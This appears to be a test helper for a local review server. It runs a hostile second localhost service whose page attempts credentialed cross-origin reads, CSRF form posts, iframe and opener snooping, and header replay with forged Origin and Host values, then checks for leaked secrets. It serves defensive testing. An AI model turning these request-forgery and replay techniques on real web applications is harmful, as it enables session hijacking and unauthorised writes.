"""A second service on this machine: it records what it is sent, and turns it on the review server.

Browsers send cookies to every port of a host, so a review must give this service nothing that lets
it read or write a decision: neither in headers, nor to the script of a page that it serves.
"""

import contextlib
import http.client
import json
import re
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from random import Random
from urllib.parse import urlsplit

READ = ("/api/run", "/api/rows?low=0", "/api/progress", "/api/overview", "/image/train/0", "/original/train/0")
WRITE = ("/api/decisions", "/api/sample", "/api/export")
NAMES = ("x-surelabel-key", "authorization", "cookie", "x-token", "x-api-key")
"""Headers in which a service may try what it saw."""
SPELLINGS = ("127.0.0.1", "localhost", "[::1]")

PAGE = """<!doctype html><title>second service</title><script>
const target = new URLSearchParams(location.search).get("target");
const said = { referrer: document.referrer, name: window.name, cookie: document.cookie };
async function attempt(name, act) {
  try { said[name] = String(await act()); } catch { said[name] = "refused"; }
}
function frame() {
  return new Promise((done) => {
    const made = document.createElement("iframe");
    made.onload = () => { try { done(made.contentDocument.body.innerText); } catch { done("refused"); } };
    made.src = target;
    document.body.append(made);
  });
}
function send(action) {
  const form = document.createElement("form");
  const room = document.createElement("iframe");
  room.name = "room";
  Object.assign(form, { action, method: "POST", target: "room", enctype: "text/plain" });
  document.body.append(room, form);
  form.submit();
  return new Promise((done) => setTimeout(done, 200));
}
addEventListener("load", async () => {
  for (const address of READ) {
    await attempt(`read ${address}`, async () => (await fetch(target + address, { credentials: "include" })).text());
  }
  for (const address of WRITE) {
    const options = { method: "POST", credentials: "include", body: "{}" };
    await attempt(`write ${address}`, async () =>
      (await fetch(target + address, { mode: "no-cors", ...options })).text());
    await attempt(`write json ${address}`, async () =>
      (await fetch(target + address, { headers: { "content-type": "application/json" }, ...options })).text());
    await attempt(`form ${address}`, () => send(target + address));
  }
  await attempt("frame", frame);
  await attempt("opener", () => opener.location.href + JSON.stringify(opener.sessionStorage));
  await attempt("window", async () => {
    const other = open(target, "review");
    await new Promise((done) => setTimeout(done, 300));
    return other.location.href + JSON.stringify(other.sessionStorage);
  });
  await fetch("/said", { method: "POST", body: JSON.stringify(said) });
  document.title = "said";
});
</script><body></body>"""


class SecondService:
    """A service that records each request, and whose page attacks the review server."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0) -> None:
        seen: list[dict[str, str]] = []
        page = PAGE.replace("READ", json.dumps(READ), 1).replace("WRITE", json.dumps(WRITE), 1).encode()

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0)))
                seen.append({**self.headers, ":path": self.path, ":body": body.decode("utf-8", "replace")})
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            do_GET = do_POST = do_OPTIONS = do_HEAD = answer  # noqa: N815, the names of http.server

            def log_message(self, *_: object) -> None:
                pass

        class Listener(ThreadingHTTPServer):
            address_family = socket.AF_INET6 if ":" in host else socket.AF_INET

        self.seen, self._server = seen, Listener((host, port), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02})
        self._thread.start()

    def stop(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()

    def said(self) -> list[dict[str, str]]:
        """Return what the scripts of its pages found out."""
        return [json.loads(one[":body"]) for one in self.seen if one[":path"] == "/said"]


@contextlib.contextmanager
def second_service(host: str = "127.0.0.1", port: int = 0) -> Iterator[SecondService]:
    """Run a second service for the length of a block."""
    service = SecondService(host, port)
    try:
        yield service
    finally:
        service.stop()


def has_ipv6() -> bool:
    """Return whether this machine has the address ::1."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as tried:
        tried.bind(("::1", 0))
        return True
    return False


def visit(page, service: SecondService, review: str, spelling: str, way: str) -> None:
    """Open the second service beside the review, in its tab, or by its `window.open`."""
    parts = urlsplit(review)
    address = f"http://{spelling}:{service.port}/?target={parts.scheme}://{parts.netloc}"
    if way == "opener":
        with page.expect_popup() as popup:
            page.evaluate("address => { window.open(address) }", address)
        other = popup.value
    else:
        other = page if way == "link" else page.context.new_page()
        other.goto(address, referer=None)
    other.wait_for_function("document.title === 'said'")
    if way == "link":
        page.goto(f"{parts.scheme}://{parts.netloc}/")  # the tab still has its key
    for opened in page.context.pages:
        if opened is not page:
            opened.close()


WAYS = ("tab", "link", "opener")


def guesses(service: SecondService) -> list[str]:
    """Return every value that the service was sent, whole and in pieces."""
    values = [value for one in service.seen for value in one.values()]
    pieces = [piece for value in values for piece in re.split(r"[;,=?&# \"/]+", value)]
    return sorted({value for value in (*values, *pieces) if value and value.isprintable() and len(value) < 4000})


def attack(review: str, service: SecondService, random: Random, rows: list[str]) -> tuple[str, str | None]:
    """Send the review server a request made of what the service saw; return it and any fault.

    `rows` are ids that a lucky service may know.
    """
    parts = urlsplit(review)
    headers = {"host": parts.netloc, **_replayed(random.choice(service.seen or [{}]))}
    for name in random.sample(NAMES, random.randrange(3)):
        headers[name] = random.choice(guesses(service) or [""]).encode("ascii", "ignore").decode()
    if random.random() < 0.7:
        headers |= {"origin": f"http://{parts.netloc}", "sec-fetch-site": "same-origin"}
    if random.random() < 0.2:
        headers["host"] = random.choice([f"localhost:{parts.port}", f"[::1]:{parts.port}", "evil.example"])
    is_write = random.random() < 0.5
    address = random.choice(WRITE if is_write else READ)
    body = json.dumps({"decisions": [{"id": random.choice(rows), "action": "keep", "seen": 0}], "count": 5})
    if is_write:
        headers["content-type"] = "application/json"
    connection = http.client.HTTPConnection("127.0.0.1", parts.port, timeout=20)
    with contextlib.closing(connection):
        connection.request("POST" if is_write else "GET", address, body if is_write else None, headers)
        status = connection.getresponse().status
    return f"{address} with {headers}", None if status == 403 else f"answered {status}"


def _replayed(request: dict[str, str]) -> dict[str, str]:
    """Return the headers of a recorded request that can be sent again."""
    own = {"host", "content-length", "connection", "transfer-encoding", ":path", ":body"}
    return {name: value for name, value in request.items() if name.lower() not in own}


def leaks(service: SecondService, secret: str) -> list[str]:
    """Return what the service learned: the secret, or an answer that its pages could read."""
    found = [f"{name}: {value}" for one in service.seen for name, value in one.items() if secret in value]
    for said in service.said():
        read = {name: text for name, text in said.items() if name not in ("referrer", "name", "cookie")}
        found += [f"{name} gave {text[:80]}" for name, text in read.items() if text not in ("", "refused", "undefined")]
        found += [f"referrer: {said['referrer']}"] if "/" in said["referrer"].partition("//")[2].rstrip("/") else []
    return found
